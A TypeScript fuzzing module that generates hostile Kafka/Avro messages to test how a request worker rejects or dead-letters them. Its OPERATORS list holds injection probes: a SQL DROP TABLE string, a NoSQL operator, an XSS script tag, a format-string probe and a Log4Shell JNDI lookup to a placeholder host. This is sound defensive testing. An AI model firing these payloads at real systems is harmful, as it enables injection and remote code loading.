// Hostile messages, seeded: bytes that are not a request, requests that lie about
// their schema, ids and headers out of bounds, reply-topic headers naming topics a
// request may not name, strings a rule must refuse, decimals far past their
// precision. Each knows what the worker must do with it: answer it (with one of a
// few codes, on the route's own reply topic, under its id) or dead-letter it
// unchanged. Its id `hz-<n>` rides in the `fuzz-id` header (copied into a dead
// letter), and in the correlation-id header or the requestId when the case has one.
import { seeded } from '../bench/requests';
import { minor, wire, type Target, type Value } from './targets';

export interface Fuzzed {
  target: Target;
  category: string;
  id: string;
  key: string | null;
  value: Buffer | null;
  headers: Record<string, string>;
  /** Codes it may be answered with; empty: it must be dead-lettered, never answered. */
  codes: string[];
}

const MALFORMED = ['MalformedRequest'];
const REFUSED = ['ValidationFailed'];
const OPERATORS = [
  '{"$gt":""}',
  '$where: 1 == 1',
  "'; DROP TABLE cards;--",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://x.example/a}',
  '%s%n%x',
  '<script>alert(1)</script>',
];
const CONTROL = ['\u0000', '\u001b[31m', '\r\n', '\u202e', '\u0007', '\ud800'];

interface Ctx {
  rand: () => number;
  n: number;
  id: string;
  t: Target;
  others: Target[];
  /** Topics a reply-topic header may not name. */
  forbidden: string[];
}

type Case = (c: Ctx) => Omit<Fuzzed, 'target' | 'id' | 'category'>;

const bytes = (rand: () => number, n: number): Buffer =>
  Buffer.from(Array.from({ length: n }, () => Math.floor(rand() * 256)));
const pick = <T>(rand: () => number, xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
const body = (c: Ctx, v: Value = c.t.valid(c.id, c.n)): Buffer => c.t.type.toBuffer(v);
/** With a correlation id it is answered MalformedRequest; without one, nobody can be answered: DLQ. */
const named = (c: Ctx, value: Buffer | null, extra: Record<string, string> = {}): ReturnType<Case> => {
  const corr = c.rand() < 0.6;
  return {
    key: `hz-key-${c.n}`,
    value,
    headers: { ...(corr ? { 'correlation-id': c.id } : {}), ...extra },
    codes: corr ? MALFORMED : [],
  };
};
const answered = (c: Ctx, value: Buffer, codes: string[], headers: Record<string, string> = {}): ReturnType<Case> => ({
  key: `hz-key-${c.n}`,
  value,
  headers: { 'correlation-id': c.id, ...headers },
  codes,
});
const huge = (rand: () => number, chars: string): string =>
  chars.repeat(Math.ceil((100_000 + rand() * 300_000) / chars.length));

export const CASES: Record<string, Case> = {
  empty: (c) => named(c, c.rand() < 0.5 ? null : Buffer.alloc(0)),
  short: (c) => named(c, bytes(c.rand, 1 + Math.floor(c.rand() * 4))),
  'wrong magic byte': (c) => {
    const v = wire(c.t.schemaId, body(c));
    v[0] = 1 + Math.floor(c.rand() * 255);
    return named(c, v);
  },
  'unknown schema id': (c) =>
    named(c, wire(pick(c.rand, [0, -1, 2_147_483_647, 900_000 + Math.floor(c.rand() * 99_999)]), body(c))),
  'schema id of another subject': (c) => {
    const o = pick(c.rand, c.others);
    return named(c, wire(o.schemaId, o.type.toBuffer(o.valid(c.id, c.n))));
  },
  'truncated Avro': (c) => {
    const v = wire(c.t.schemaId, body(c));
    return named(c, v.subarray(0, 5 + Math.floor(c.rand() * (v.length - 6))));
  },
  'random Avro': (c) => named(c, wire(c.t.schemaId, bytes(c.rand, 1 + Math.floor(c.rand() * 300)))),
  'huge string in a checked field': (c) =>
    answered(c, wire(c.t.schemaId, body(c, c.t.refused(c.id, c.n, huge(c.rand, 'x')))), REFUSED),
  'control characters in a checked field': (c) =>
    answered(c, wire(c.t.schemaId, body(c, c.t.refused(c.id, c.n, `a${pick(c.rand, CONTROL)}b`))), REFUSED),
  'operator string in a checked field': (c) =>
    answered(c, wire(c.t.schemaId, body(c, c.t.refused(c.id, c.n, pick(c.rand, OPERATORS)))), REFUSED),
  'control characters or operators in the requestId': (c) =>
    named(c, wire(c.t.schemaId, body(c, c.t.valid(`${c.id}${pick(c.rand, [...CONTROL, ...OPERATORS])}`, c.n)))),
  'oversized requestId': (c) =>
    named(c, wire(c.t.schemaId, body(c, c.t.valid(c.id + 'r'.repeat(c.rand() < 0.5 ? 129 : 500_000), c.n)))),
  'oversized correlation-id': (c) => {
    // The requestId in the value is the one id left to answer under.
    const v = wire(c.t.schemaId, body(c));
    return {
      key: `hz-key-${c.n}`,
      value: v,
      headers: { 'correlation-id': c.id + 'c'.repeat(c.rand() < 0.5 ? 129 : 500_000) },
      codes: MALFORMED,
    };
  },
  'oversized headers': (c) => {
    const junk =
      c.rand() < 0.5
        ? { 'x-junk': 'j'.repeat(400_000) }
        : Object.fromEntries(Array.from({ length: 2_000 }, (_, i) => [`x-h${i}`, 'h'.repeat(100)]));
    return named(c, bytes(c.rand, 50), junk);
  },
  'value near the size limit': (c) => named(c, bytes(c.rand, 1_048_000 + Math.floor(c.rand() * 400))),
  'reply-topic not allowed': (c) =>
    answered(c, wire(c.t.schemaId, body(c)), MALFORMED, { 'reply-topic': pick(c.rand, c.forbidden) }),
  'giant decimal': (c) => {
    if (c.t.name !== 'card') return CASES['random Avro']!(c);
    const v = c.t.valid(c.id, c.n);
    const payload = Object.values(v.operation as Record<string, Value>)[0]!;
    const wallets = (payload.loyaltyCard as Value).wallets as Value[];
    wallets[0]!.balance =
      c.rand() < 0.3 ? Buffer.alloc(9, 0x11) : Buffer.alloc(1_000 + Math.floor(c.rand() * 250_000), 0x7f);
    return named(c, wire(c.t.schemaId, body(c, v)));
  },
  'decimal past decimal(18,2)': (c) => {
    if (c.t.name !== 'card') return CASES['operator string in a checked field']!(c);
    const v = c.t.valid(c.id, c.n);
    const wallets = (Object.values(v.operation as Record<string, Value>)[0]!.loyaltyCard as Value).wallets as Value[];
    wallets[0]!.balance = Buffer.from([0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]);
    wallets[0]!.stat = { lost: minor(0), transferredOut: minor(0), transferredIn: null, issued: null };
    return answered(c, wire(c.t.schemaId, body(c, v)), REFUSED);
  },
};

/** `count` hostile messages, spread over the targets and the cases (the heavy ones rarer). */
export function hostile(
  count: number,
  targets: readonly Target[],
  forbidden: (t: Target) => string[],
  tag: string,
  seed: number,
): Fuzzed[] {
  const rand = seeded(seed);
  const names = Object.keys(CASES);
  const heavy = new Set([
    'huge string in a checked field',
    'oversized requestId',
    'oversized correlation-id',
    'oversized headers',
    'value near the size limit',
    'giant decimal',
  ]);
  const out: Fuzzed[] = [];
  for (let n = 0; out.length < count; n++) {
    const category = names[n % names.length]!;
    // A heavy case (hundreds of KB each) takes one turn in 20.
    if (heavy.has(category) && Math.floor(n / names.length) % 20 !== 0) continue;
    const t = targets[Math.floor(n / names.length) % targets.length]!;
    const id = `hz-${tag}-${n}`;
    const m = CASES[category]!({ rand, n, id, t, others: targets.filter((x) => x !== t), forbidden: forbidden(t) });
    out.push({ target: t, category, id, ...m, headers: { ...m.headers, 'fuzz-id': id } });
  }
  return out;
}
